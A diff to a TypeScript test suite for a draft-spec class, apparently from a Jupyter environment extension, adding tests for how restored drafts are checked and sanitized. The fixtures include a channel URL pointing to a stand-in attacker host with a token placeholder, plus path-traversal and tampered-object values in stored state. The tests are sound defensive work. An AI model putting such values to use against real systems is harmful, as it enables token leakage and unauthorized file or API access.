@@ -4,9 +4,13 @@ import { EXAMPLE, SpecDraft } from '../../model';
 import { ICheckedSpec, SpecSource } from '../../types';
 import { until } from '../fakeserver';
 
+const JOB = '20260101-000001-00000000';
+const PLAN = '20260101-000000-00000000';
+
 /** Answers checks when it is told to. */
 class FakeChecker {
   asked: SpecSource[] = [];
+  channelsAsked: SpecSource[] = [];
   private _waiting: ((checked: ICheckedSpec) => void)[] = [];
 
   check = (
@@ -14,6 +18,7 @@ class FakeChecker {
     withChannels: boolean
   ): Promise<ICheckedSpec> => {
     if (withChannels) {
+      this.channelsAsked.push(source);
       return Promise.reject(new Error('no channels here'));
     }
     this.asked.push(source);
@@ -39,7 +44,13 @@ describe('SpecDraft', () => {
   let draft: SpecDraft;
 
   const makeDraft = () =>
-    new SpecDraft({ check: checker.check, state, delay: 5, saveDelay: 1 });
+    new SpecDraft({
+      check: checker.check,
+      state,
+      delay: 5,
+      channelsDelay: 5,
+      saveDelay: 1
+    });
 
   beforeEach(() => {
     checker = new FakeChecker();
@@ -161,17 +172,47 @@ describe('SpecDraft', () => {
   it('outlives a reload', async () => {
     draft.text = 'name: half';
     draft.name = 'typed';
-    draft.jobId = 'job-1';
-    draft.preview = { jobId: 'job-0', request: draft.request };
+    draft.jobId = JOB;
+    draft.preview = { jobId: PLAN, request: draft.request };
     await new Promise(resolve => setTimeout(resolve, 20));
     const next = makeDraft();
     void next.restore();
     await until(() => next.text === 'name: half');
     expect(next.name).toBe('typed');
-    expect(next.jobId).toBe('job-1');
-    expect(next.preview?.jobId).toBe('job-0');
+    expect(next.jobId).toBe(JOB);
+    expect(next.preview?.jobId).toBe(PLAN);
     expect(next.isPreviewOutdated).toBe(false);
     next.dispose();
+  });
+
+  it('has the channels of a restored text asked once it is changed', async () => {
+    const text = 'channels: [http://evil.example/${TOKEN}]';
+    await state.save('jupyter-envkernels:draft', { text });
+    void draft.restore();
+    await until(() => checker.asked.length > 0);
+    checker.answer(0, null);
+    await new Promise(resolve => setTimeout(resolve, 20));
+    expect(checker.asked).toEqual([{ text }]);
+    expect(checker.channelsAsked).toEqual([]);
+    draft.text = `${text}\n`;
+    await until(() => checker.channelsAsked.length > 0);
+  });
+
+  it('takes nothing odd from what was stored', async () => {
+    await state.save('jupyter-envkernels:draft', {
+      text: 'name: a\r\n',
+      name: { toString: 'evil' },
+      saved: { path: '../outside.yml', text: 'name: a\n' },
+      jobId: '../../api/shutdown',
+      preview: { jobId: PLAN, request: { kind: 'remove', environment: 'a' } }
+    });
+    void draft.restore();
+    await until(() => checker.asked.length > 0);
+    expect(checker.asked).toEqual([{ text: 'name: a\n' }]);
+    expect(draft.name).toBe('');
+    expect(draft.openedPath).toBeNull();
+    expect(draft.jobId).toBeNull();
+    expect(draft.preview).toBeNull();
   });
 
   it('does not let a stored draft replace what was typed meanwhile', async () => {
